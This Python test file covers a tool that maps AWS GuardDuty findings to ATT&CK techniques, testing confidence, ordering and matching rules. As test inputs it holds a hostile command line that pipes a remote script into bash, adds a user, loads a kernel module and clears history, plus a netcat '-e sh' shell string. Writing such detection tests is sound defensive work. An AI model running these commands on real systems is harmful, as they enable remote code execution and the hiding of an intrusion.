"""Test how evidence is selected, rated, ordered and merged."""

from __future__ import annotations

import json
from typing import Any

import pytest

from enricher.authoring.rule_examples import finding_of
from enricher.enrichment.conditions import Field, Reader, key_of, predicate, words_of
from enricher.enrichment.enrich import enrich
from enricher.enrichment.evidence import find_evidence
from enricher.enrichment.ranking import DENIED_CALL, FAILED_CALL, MAX_ENTRIES, ON_BEHALF
from enricher.enrichment.tag import Entry
from enricher.finding.event import Finding
from enricher.finding.paths import LONGEST, Shown
from enricher.mapping.model import CONFIDENCES, AttackMapping
from enricher.mapping.type_name import parse_type
from tests import examples

CALL = "service.action.awsApiCallAction"
CLUSTER = "service.action.kubernetesApiCallAction"
ANOMALOUS = "service.additionalInfo.anomalies.anomalousAPIs"
WORKLOAD = "resource.kubernetesDetails.kubernetesWorkloadDetails"
KEY = {f"{CALL}.api": "CreateAccessKey", f"{CALL}.serviceName": "iam.amazonaws.com"}


def found(finding_type: str, fields: dict[str, Any], mapping: AttackMapping) -> tuple[Entry, ...]:
    """Return the evidence entries of a finding with the given type and fields."""
    return find_evidence(finding_of(finding_type, fields), mapping.record_for(finding_type), mapping)


def pairs(entries: tuple[Entry, ...]) -> list[tuple[str, str | None]]:
    """Return the (tactic, technique) pairs of entries."""
    return [(entry.pair.tactic, entry.pair.technique) for entry in entries]


def test_access_key_is_additional_credentials(mapping: AttackMapping) -> None:
    """CreateAccessKey in a Persistence finding must be T1098.001, high, with the API as evidence."""
    finding = Finding.from_event(examples.event("iam-anomalous-persistence-create-access-key"))
    row = enrich(finding, mapping).attack["techniques"][0]
    assert ("T1098.001", "TA0003", "high", "evidence") == (
        row["id"],
        row["tactic"]["id"],
        row["confidence"],
        row["source"],
    )
    assert {"field": f"{CALL}.api", "value": "CreateAccessKey"} == row["evidence"][0]


@pytest.mark.parametrize(
    ("purpose", "tactic"), [("Persistence", "TA0003"), ("PrivilegeEscalation", "TA0004")]
)
def test_purpose_selects_the_tactic(purpose: str, tactic: str, mapping: AttackMapping) -> None:
    """The same call must be tagged with the tactic of the finding's threat purpose."""
    entries = found(f"{purpose}:IAMUser/AnomalousBehavior", KEY, mapping)
    assert [(tactic, "T1098.001")] == pairs(entries)


def test_purpose_is_primary_if_the_family_describes_the_caller(mapping: AttackMapping) -> None:
    """In a Recon finding a Describe call must be Discovery first and Valid Accounts second."""
    fields = {
        f"{CALL}.api": "DescribeInstances",
        f"{CALL}.serviceName": "ec2.amazonaws.com",
        "resource.accessKeyDetails.userType": "IAMUser",
    }
    recon = found("Recon:IAMUser/MaliciousIPCaller", fields, mapping)
    assert [("TA0007", "T1580"), ("TA0001", "T1078.004")] == pairs(recon)
    unauthorized = found("UnauthorizedAccess:IAMUser/MaliciousIPCaller", fields, mapping)
    assert [("TA0001", "T1078.004"), ("TA0007", "T1580")] == pairs(unauthorized)


def test_tactic_other_than_the_purpose_is_not_primary(mapping: AttackMapping) -> None:
    """In a PrivilegeEscalation finding the privileged container must precede the deployment."""
    call = "service.action.kubernetesApiCallAction"
    fields = {
        f"{call}.verb": "create",
        f"{call}.resource": "pods",
        f"{WORKLOAD}.containers[0].securityContext.privileged": True,
    }
    entries = found("PrivilegeEscalation:Kubernetes/PrivilegedContainer", fields, mapping)
    assert [("TA0004", "T1611"), ("TA0002", "T1610")] == pairs(entries)
    assert ["medium", "high"] == [entry.confidence for entry in entries]


def test_purpose_without_a_tactic_keeps_the_most_common_reading(mapping: AttackMapping) -> None:
    """GetObject with stolen credentials must be Collection, not a search for passwords in files."""
    fields = {f"{CALL}.api": "GetObject", f"{CALL}.serviceName": "s3.amazonaws.com"}
    entries = found("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", fields, mapping)
    assert [("TA0009", "T1530")] == pairs(entries)


def test_evidence_field_is_listed_once_in_an_entry(mapping: AttackMapping) -> None:
    """A field that satisfies two conditions of a rule must be listed as evidence once."""
    command = "service.runtimeDetails.context.commandLineExample"
    (entry,) = found("DefenseEvasion:Runtime/SuspiciousCommand", {command: "iptables -F"}, mapping)
    assert (Shown(command, "iptables -F"),) == entry.evidence


@pytest.mark.parametrize(
    "command",
    [
        "tar czf /backup/id.tgz /srv/www",
        "chmod u+x deploy.sh",
        "yum install amazon-cloudwatch-agent",
        "curl -O https://www.example.com/setup.sh.asc -d w",
        "./start.sh >> /var/log/shop.log",
        "systemctl restart ssh",
        "ls /var/lib/docker",
    ],
)
def test_ordinary_command_is_at_most_a_download(command: str, mapping: AttackMapping) -> None:
    """A suspicious word in a path or a harmless option must be at most an ingress tool transfer."""
    fields = {"service.runtimeDetails.context.commandLineExample": command}
    entries = found("Trojan:Runtime/DropPoint", fields, mapping)
    assert {("TA0011", "T1105")} >= set(pairs(entries))


def test_call_of_another_tactic_has_lower_confidence(mapping: AttackMapping) -> None:
    """A call without a reading in the purpose's tactic must be kept, one confidence level lower."""
    entries = found("Discovery:IAMUser/AnomalousBehavior", KEY, mapping)
    assert ["medium"] == [entry.confidence for entry in entries]


def test_caller_identity_in_discovery_is_discovery(mapping: AttackMapping) -> None:
    """GetCallerIdentity in a Discovery finding must have the tactic Discovery."""
    fields = {f"{CALL}.api": "GetCallerIdentity", f"{CALL}.serviceName": "sts.amazonaws.com"}
    entries = found("Discovery:IAMUser/AnomalousBehavior", fields, mapping)
    assert ["TA0007"] == [entry.pair.tactic for entry in entries]


def test_call_by_a_service_has_lower_confidence(mapping: AttackMapping) -> None:
    """A call by an AWS service on someone's behalf must have lower confidence and say so."""
    (entry,) = found("Persistence:IAMUser/AnomalousBehavior", KEY | {f"{CALL}.callerType": "Domain"}, mapping)
    assert "medium" == entry.confidence
    assert entry.rationale.endswith(ON_BEHALF)


def test_call_with_an_unknown_verb_is_not_evidence(mapping: AttackMapping) -> None:
    """A call without a rule whose verb no rule lists must not produce evidence."""
    fields = {f"{CALL}.api": "KettleOnTheStove", f"{CALL}.serviceName": "iam.amazonaws.com"}
    assert () == found("Persistence:IAMUser/AnomalousBehavior", fields, mapping)


def test_same_call_of_another_service_is_read_by_its_name_only(mapping: AttackMapping) -> None:
    """A call of a service without a rule for it must have low confidence, not another service's rule."""
    fields = {f"{CALL}.api": "CreateAccessKey", f"{CALL}.serviceName": "example.amazonaws.com"}
    (entry,) = found("Persistence:IAMUser/AnomalousBehavior", fields, mapping)
    assert ("T1098.001", "low") == (entry.pair.technique, entry.confidence)


def test_several_calls_produce_several_entries(mapping: AttackMapping) -> None:
    """Each anomalous call must be an entry, the failed one an attempt."""
    text = "iam.amazonaws.com:[CreateAccessKey:success , CreateUser:AccessDenied]"
    first, second = found("Persistence:IAMUser/AnomalousBehavior", {ANOMALOUS: text}, mapping)
    assert ("T1098.001", "high") == (first.pair.technique, first.confidence)
    assert ("T1136.003", "medium") == (second.pair.technique, second.confidence)
    assert second.rationale.startswith(DENIED_CALL)
    assert (Shown(ANOMALOUS, text),) == second.evidence


def test_entries_are_sorted_by_aim_then_confidence_and_limited(mapping: AttackMapping) -> None:
    """However many calls a finding lists, at most five entries: of its tactics first, then by confidence."""
    listed = [
        f"{service}:[{' , '.join(f'{call}:success' for call in list(calls)[:3])}]"
        for service, calls in mapping.evidence["calls"].items()
    ]
    entries = found("Impact:IAMUser/AnomalousBehavior", {ANOMALOUS: " , ".join(listed)}, mapping)
    ranks = [(entry.pair.tactic != "TA0040", CONFIDENCES.index(entry.confidence)) for entry in entries]
    assert MAX_ENTRIES == len(entries)
    assert sorted(ranks) == ranks
    assert "TA0040" == entries[0].pair.tactic


@pytest.mark.parametrize(
    ("name", "role", "pairs_found"),
    [
        ("ec2-ssh-brute-force-inbound", "TARGET", [("TA0006", "T1110")]),
        ("ec2-ssh-brute-force-outbound", "ACTOR", [("TA0006", "T1110"), ("TA0008", "T1021.004")]),
    ],
)
def test_resource_role_selects_the_reading(
    name: str, role: str, pairs_found: list[tuple[str, str]], mapping: AttackMapping
) -> None:
    """The same type must be tagged differently for an attacked and for an attacking instance."""
    finding = Finding.from_event(examples.event(name))
    entries = find_evidence(finding, mapping.record_for(finding.type), mapping)
    assert pairs_found == pairs(entries)
    assert Shown("service.resourceRole", role) in entries[0].evidence


def test_rationale_depends_on_the_resource_role(mapping: AttackMapping) -> None:
    """An attacked and an attacking instance must have different rationales."""
    rationales = {
        enrich(Finding.from_event(examples.event(f"ec2-ssh-brute-force-{way}")), mapping).entries[0].rationale
        for way in ("inbound", "outbound")
    }
    assert 2 == len(rationales)


def test_long_value_is_truncated(mapping: AttackMapping) -> None:
    """A long value must be truncated to the limit in the evidence."""
    text = f"iam.amazonaws.com:[{' , '.join(['CreateAccessKey:success'] * 50)}]"
    (entry,) = found("Persistence:IAMUser/AnomalousBehavior", {ANOMALOUS: text}, mapping)
    assert (Shown(ANOMALOUS, text[:LONGEST]),) == entry.evidence


def test_conditions_apply_to_the_same_list_item(mapping: AttackMapping) -> None:
    """A failed default user and a successful other user must not count as a successful default user."""
    login = "service.action.rdsLoginAttemptAction.LoginAttributes"
    fields = {
        f"{login}[0].user": "postgres",
        f"{login}[0].successfulLoginAttempts": 0,
        f"{login}[1].user": "billing",
        f"{login}[1].successfulLoginAttempts": 1,
    }
    entries = found("CredentialAccess:RDS/MaliciousIPCaller.SuccessfulLogin", fields, mapping)
    assert [("TA0001", "T1078")] == pairs(entries)


def test_fields_of_the_matched_list_item_are_shown(mapping: AttackMapping) -> None:
    """Failures and a success of one user must be combined, and the user of that item listed with them."""
    login = "service.action.rdsLoginAttemptAction.LoginAttributes"
    fields = {
        f"{login}[0].user": "reader",
        f"{login}[1].user": "billing",
        f"{login}[1].failedLoginAttempts": 30,
        f"{login}[1].successfulLoginAttempts": 1,
    }
    entries = found("CredentialAccess:RDS/AnomalousBehavior.SuccessfulBruteForce", fields, mapping)
    (entry,) = (entry for entry in entries if entry.pair.technique == "T1078")
    shown = {name: value for name, value in fields.items() if name.startswith(f"{login}[1]")}
    assert shown == {field.field: field.value for field in entry.evidence}


@pytest.mark.parametrize("spelling", ["LoginAttributes", "loginAttributes"])
def test_login_attributes_are_read_in_either_case(spelling: str, mapping: AttackMapping) -> None:
    """`LoginAttributes`, which GuardDuty writes with a capital letter, must be read in camelCase as well."""
    field = f"service.action.rdsLoginAttemptAction.{spelling}[0].failedLoginAttempts"
    entries = found("CredentialAccess:RDS/MaliciousIPCaller.FailedLogin", {field: 40}, mapping)
    assert [("TA0006", "T1110.001")] == pairs(entries)


def test_failed_kubernetes_call_is_an_attempt(mapping: AttackMapping) -> None:
    """A failed Kubernetes API call must have lower confidence, say so and list the status code."""
    call = "service.action.kubernetesApiCallAction"
    fields = {f"{call}.verb": "list", f"{call}.resource": "secrets", f"{call}.statusCode": 403}
    (entry,) = found("CredentialAccess:Kubernetes/MaliciousIPCaller", fields, mapping)
    assert ("T1552.007", "medium") == (entry.pair.technique, entry.confidence)
    assert entry.rationale.startswith(DENIED_CALL)
    assert Shown(f"{call}.statusCode", 403) in entry.evidence


@pytest.mark.parametrize("privileged", [True, "true"])
def test_boolean_written_as_text_is_a_boolean(privileged: object, mapping: AttackMapping) -> None:
    """A boolean that an export wrote as text must satisfy the same conditions."""
    fields = {
        f"{WORKLOAD}.containers[0].securityContext.privileged": privileged,
        "service.action.kubernetesApiCallAction.verb": "create",
    }
    entries = found(
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.WorkloadDeployed!PrivilegedContainer",
        fields,
        mapping,
    )
    assert [("TA0004", "T1611")] == pairs(entries)


def test_command_line_alone_is_never_high_confidence(mapping: AttackMapping) -> None:
    """A command line alone must never result in high confidence."""
    line = "curl http://x.example.net/a | bash; crontab -; useradd x; insmod y.ko; iptables -F; history -c"
    fields = {"service.runtimeDetails.context.commandLineExample": line}
    for purpose in ("Execution", "DefenseEvasion", "Persistence", "Discovery", "PrivilegeEscalation"):
        entries = found(f"{purpose}:Runtime/SuspiciousCommand", fields, mapping)
        assert "high" not in {entry.confidence for entry in entries}


def test_mapping_without_rules_produces_no_evidence(mapping: AttackMapping) -> None:
    """A mapping without evidence rules must produce no evidence and must not raise."""
    bare = AttackMapping(mapping.version, mapping.catalogue, mapping.records)
    assert () == find_evidence(finding_of("a:b/c", KEY), None, bare)


@pytest.mark.parametrize("name", examples.names())
def test_camel_and_pascal_case_have_the_same_attack_object(name: str, mapping: AttackMapping) -> None:
    """A finding must have the same `attack` object in camelCase and in PascalCase."""
    detail = examples.event(name)["detail"]
    camel = enrich(Finding.from_detail(detail), mapping).attack
    pascal = enrich(Finding.from_detail(examples.to_pascal(detail)), mapping).attack
    assert camel == pascal


def test_tables_round_trip_through_json(mapping: AttackMapping) -> None:
    """The tables must be plain JSON, so that the bundle loads them unchanged."""
    assert mapping.evidence == json.loads(json.dumps(mapping.evidence))


@pytest.mark.parametrize(
    ("finding_type", "parts"),
    [
        (
            "Impact:S3/AnomalousBehavior.Delete",
            ("Impact", "S3", "AnomalousBehavior", "AnomalousBehavior.Delete"),
        ),
        ("Trojan:EC2/DropPoint!DNS", ("Trojan", "EC2", "DropPoint", "DropPoint!DNS")),
        ("no type", ("no type", "", "", "")),
        ("", ("", "", "", "")),
    ],
)
def test_type_is_split_into_its_parts(finding_type: str, parts: tuple[str, ...]) -> None:
    """A finding type must be split into purpose, resource, family and rest; a missing part is empty."""
    assert parts == parse_type(finding_type)


@pytest.mark.parametrize(
    ("value", "key"), [(True, "true"), (22, "22"), (22.0, "22"), ("22", "22"), (1.5, "1.5"), (10**30, "")]
)
def test_values_are_compared_as_text(value: Any, key: str) -> None:
    """Numbers and booleans must be equal to the same values written as text."""
    assert key == key_of(value)


@pytest.mark.parametrize(
    ("path", "holds"),
    [
        ("/opt", True),
        ("/opt/x.ko", True),
        ("/optfs/x.ko", False),
        ("/srv/opt/x.ko", False),
        ("opt/x.ko", False),
        (7, False),
    ],
)
def test_folder_ends_at_a_boundary(path: Any, holds: bool) -> None:
    """A path must be below a folder only if it continues at a slash, also if the folder ends with one."""
    assert holds == predicate("below", ["/opt"])(path)
    assert (holds and path != "/opt") == predicate("below", ["/opt/"])(path)


@pytest.mark.parametrize(
    ("text", "holds"),
    [("/bin/nc -e sh", True), ("NC", True), ("rsync", False), ("nc6", False), ("", False), (7, False)],
)
def test_word_is_a_whole_one(text: Any, holds: bool) -> None:
    """A condition on words must hold for one of its words in any case, and not for a part of another."""
    assert holds == predicate("words", ["nc", "ncat"])(text)


class CountedDict(dict[str, Any]):
    """A JSON object that counts how often it is read."""

    reads = 0

    def get(self, key: str, default: Any = None) -> Any:
        """Count the read."""
        self.reads += 1
        return super().get(key, default)


def test_field_that_rules_share_is_read_once() -> None:
    """A field must be read once for all rules that test it."""
    view = CountedDict(type="Recon:EC2/Portscan")
    reader = Reader(view, [Field.of(["type"])])
    assert [("type", "Recon:EC2/Portscan")] == reader.places(0, "") == reader.places(0, "")
    assert 1 == view.reads


@pytest.mark.parametrize(
    ("status", "failed"), [(399, False), (400, True), ("400", True), (503, True), (200, False)]
)
def test_status_from_400_on_is_a_failure(status: Any, failed: bool, mapping: AttackMapping) -> None:
    """A call to a cluster failed if its HTTP status is 400 or above."""
    fields = {f"{CLUSTER}.verb": "list", f"{CLUSTER}.resource": "secrets", f"{CLUSTER}.statusCode": status}
    (entry,) = found("CredentialAccess:Kubernetes/MaliciousIPCaller", fields, mapping)
    assert failed == entry.rationale.startswith(FAILED_CALL)


def test_name_in_a_uri_is_read_as_if_stated(mapping: AttackMapping) -> None:
    """A condition on the name of a Kubernetes object must be tested on the name in the URI, too."""
    uri = "/api/v1/namespaces/kube-system/configmaps/aws-auth"
    fields = {f"{CLUSTER}.verb": "patch", f"{CLUSTER}.requestUri": uri}
    entry = found("Persistence:Kubernetes/MaliciousIPCaller", fields, mapping)[0]
    assert ("TA0003", "T1098.006") == (entry.pair.tactic, entry.pair.technique)


@pytest.mark.parametrize(
    ("address", "holds"),
    [
        ("100.64.0.0", True),
        ("100.100.1.2", True),
        ("100.127.255.255", True),
        ("100.63.255.255", False),
        ("100.128.0.0", False),
        ("2001:db8::1", False),
        ("100.64.0", False),
        ("100.64.0.256", False),
        ("100.64.0.¹", False),
        (100, False),
    ],
)
def test_network_is_matched_as_a_whole(address: Any, holds: bool) -> None:
    """An address must be in a network from its first to its last address."""
    assert holds == predicate("network", ["192.0.2.0/24", "100.64.0.0/10"])(address)


def test_words_are_lower_case_letters_and_digits() -> None:
    """A text must be split into words of lower-case letters and digits."""
    assert {"gen", "application", "linux", "coinminer", "12"} == words_of(
        "Gen:Application.Linux.CoinMiner.12"
    )
